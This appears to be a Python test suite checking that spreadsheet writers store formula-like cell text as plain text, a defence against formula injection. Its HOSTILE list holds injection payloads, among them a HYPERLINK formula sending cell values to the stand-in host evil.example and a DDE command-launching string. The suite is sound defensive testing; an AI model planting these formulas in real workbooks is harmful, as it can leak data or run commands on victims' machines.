"""The workbook-writer contract suite: text is data, never a formula, in every
:class:`~xcert_core.ports.workbooks.WorkbookWriter`.

A school's cell such as ``=HYPERLINK("http://…?id="&E4,"点击核对")`` must come back in a written workbook as
the text it is; the built-in writer uses Excel's quote prefix (see :mod:`xcert_core.text_safety`). Use the suite
from a test module of your own writer::

    from xcert_core.testing.writer_contract import WorkbookWriterContract

    class TestMyWriter(WorkbookWriterContract):
        def make_writer(self):
            return MyWriter()

The contract, for every writer of ``.xlsx``: the writer satisfies the protocol; whatever strings the cells hold
(formula-like ones, control characters, anything hypothesis draws), no worksheet of the written file holds a
formula (an ``<f>`` element) and every formula-like text is in the file as text. Reads the file with the
standard library only. Needs pytest and hypothesis.
"""

from __future__ import annotations

import re
import tempfile
import zipfile
from pathlib import Path
from xml.etree import ElementTree

from hypothesis import example, given, settings
from hypothesis import strategies as st

from xcert_core.ports.workbooks import SheetModel, WorkbookWriter
from xcert_core.text_safety import formula_like, visible_in_cell

HOSTILE = ['=HYPERLINK("http://evil.example/?id="&E4&F4,"点击核对")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
           "@SUM(A1:A2)", "\t=1", "＝SUM(1)", "=1"]
"""Texts a spreadsheet would run, from OWASP's CSV-injection page and a school's files."""
_FORMULA = re.compile(r"<(?:\w+:)?f[ >/]")


def formulas_in(path: Path) -> list[str]:
    """The worksheets of the .xlsx file at ``path`` that hold a formula (an ``<f>`` element)."""
    with zipfile.ZipFile(path) as archive:
        return [name for name in archive.namelist()
                if name.startswith("xl/worksheets/") and _FORMULA.search(archive.read(name).decode("utf-8"))]


def _cell_texts(path: Path) -> set[str]:
    """Every string of the workbook at ``path``: each inline string (``<is>``) and shared string (``<si>``), its
    text runs joined, as the XML parser reads it (so ``&amp;`` or ``&#28857;`` are whatever characters they
    stand for: how a writer escapes is its own business)."""
    texts: set[str] = set()
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if not name.endswith(".xml"):
                continue
            root = ElementTree.fromstring(archive.read(name))  # a file the writer just wrote: trusted
            for element in root.iter():
                if element.tag.rpartition("}")[2] in ("is", "si"):
                    texts.add("".join(run.text or "" for run in element.iter() if run.tag.rpartition("}")[2] == "t"))
    return texts


class WorkbookWriterContract:
    """Subclass with :meth:`make_writer`."""

    def make_writer(self) -> WorkbookWriter:
        raise NotImplementedError("a WorkbookWriterContract subclass must implement make_writer()")

    def test_satisfies_the_writer_protocol(self) -> None:
        writer = self.make_writer()
        assert isinstance(writer, WorkbookWriter) and ".xlsx" in writer.suffixes

    @settings(max_examples=40, deadline=None)
    @given(texts=st.lists(st.text(min_size=1, max_size=30), min_size=1, max_size=6))
    @example(texts=HOSTILE)
    def test_text_is_never_written_as_a_formula(self, texts: list[str]) -> None:
        with tempfile.TemporaryDirectory() as folder:
            path = Path(folder) / "out.xlsx"
            self.make_writer().write([SheetModel("Sheet1", rows=(tuple(texts),))], path)
            assert formulas_in(path) == [], texts
            written = _cell_texts(path)
            for text in texts:
                if formula_like(text) and text.isprintable():
                    assert visible_in_cell(text) in written or text in written, text


__all__ = ["HOSTILE", "WorkbookWriterContract", "formulas_in"]
